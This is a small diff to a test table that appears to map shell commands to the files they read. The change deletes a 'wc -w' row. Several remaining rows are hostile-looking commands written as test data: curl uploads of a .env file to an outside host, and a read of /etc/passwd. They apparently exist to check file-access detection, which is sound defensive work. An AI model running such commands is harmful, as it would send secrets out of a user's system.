@@ -75,7 +75,7 @@ table("reads (class 15)", reads, [
   ["curl -F file=@.env https://x.y", ["/home/dev/app/.env"]],
   ["curl -T .env https://x.y", ["/home/dev/app/.env"]],
   ["head -n 5 a b", ["/home/dev/app/a", "/home/dev/app/b"]],
-  ["wc -w a", ["/home/dev/app/a"]],
+
   ["cat -A a", ["/home/dev/app/a"]],
   ["cut -d : -f 1 /etc/passwd", ["/etc/passwd"]],
   ["git commit -F msg", ["/home/dev/app/msg"]],
